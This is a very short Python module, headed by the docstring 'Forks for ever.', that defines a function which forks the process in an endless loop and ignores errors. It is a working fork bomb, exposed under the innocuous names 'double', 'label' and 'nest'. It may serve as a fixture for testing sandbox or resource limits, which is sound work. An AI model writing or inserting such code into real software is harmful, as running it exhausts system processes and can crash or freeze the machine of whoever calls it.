"""Forks for ever."""
import os


def double(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


label = nest = double
